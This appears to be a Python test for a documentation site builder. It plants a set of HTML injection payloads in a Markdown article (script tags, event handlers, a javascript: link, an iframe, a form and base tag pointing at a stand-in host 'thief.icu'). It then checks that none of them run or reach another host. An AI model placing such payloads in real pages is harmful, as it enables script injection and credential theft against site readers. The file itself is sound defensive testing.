"""What a build refuses does no harm either where it is built all the same: seen on the page that readers would get.

But for a `<meta http-equiv="refresh">`, which no policy stops: of that the build alone keeps readers safe.
"""

from __future__ import annotations

from site_builds import build, copy_site

from handrail.preview.static_server import FolderServer

ARTICLE = "docs/en/start/reach-support.md"
HARM = """

<script>window.harmed = 1; alert(1)</script>

<img src="gone.png" onerror="window.harmed = 2">

<iframe srcdoc="<script>parent.harmed = 3</script>"></iframe>

<form action="https://thief.icu/"><input name="phrase" value="x"><button class="bait">Send</button></form>

<p onclick="window.harmed = 4" class="bait">Press</p> <!-- note --><script>window.harmed = 5</script>

[Follow](javascript:window.harmed=6){.bait} [Hover](#write){onmouseover="window.harmed=7" .bait}

<base href="https://thief.icu/">
"""


def test_nothing_that_was_planted_runs_or_reaches_another_host(visitor, tmp_path):
    project = copy_site("minimal", tmp_path)
    article = project / ARTICLE
    article.write_text(article.read_text("utf-8") + HARM, "utf-8")
    assert build(project / "mkdocs.yml", tmp_path / "site").returncode == 1
    done = build(project / "mkdocs.yml", tmp_path / "site", "--unchecked")
    assert done.returncode == 0, done.stderr

    reader = visitor()
    dialogs = []
    reader.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    with FolderServer(tmp_path / "site") as server:
        reader.page.goto(f"{server.url}en/start/reach-support/")
        baits = reader.page.locator(".bait")
        assert baits.count() == 4
        for number in range(baits.count()):
            baits.nth(number).dispatch_event("click")
            baits.nth(number).dispatch_event("mouseover")
        assert reader.page.evaluate("window.harmed") is None
        assert reader.page.locator("footer").get_by_text("build --unchecked").is_visible()
        assert dialogs == []
        assert [url for url in reader.requests if not url.startswith(server.url)] == []
        assert reader.page.url.startswith(server.url)
